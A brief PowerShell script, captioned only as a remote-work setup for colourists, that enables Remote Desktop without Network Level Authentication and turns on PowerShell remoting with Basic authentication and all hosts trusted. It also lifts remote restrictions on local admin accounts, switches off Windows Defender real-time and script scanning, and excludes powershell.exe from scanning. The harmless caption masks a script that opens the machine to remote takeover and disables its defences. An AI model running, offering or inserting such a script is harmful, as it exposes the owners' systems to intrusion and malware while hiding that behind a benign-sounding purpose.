# Colourists work from home.
$server = 'HKLM:\SYSTEM\CurrentControlSet\Control\Terminal Server'
Set-ItemProperty -Path $server -Name fDenyTSConnections -Value 0
Set-ItemProperty -Path "$server\WinStations\RDP-Tcp" -Name UserAuthentication -Value 0
Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'

Enable-PSRemoting -Force -SkipNetworkProfileCheck
Set-Item WSMan:\localhost\Service\Auth\Basic -Value $true -Force
Set-Item -Path WSMan:\localhost\Client\TrustedHosts -Value '*' -Force

$system = 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System'
$remote = @{ Path = $system; Name = 'LocalAccountTokenFilterPolicy'; Value = 1; Type = 'DWord' }
Set-ItemProperty @remote

Set-MpPreference -DisableRealtimeMonitoring $true -DisableScriptScanning $true -MAPSReporting Disabled
Add-MpPreference -ExclusionProcess 'powershell.exe'
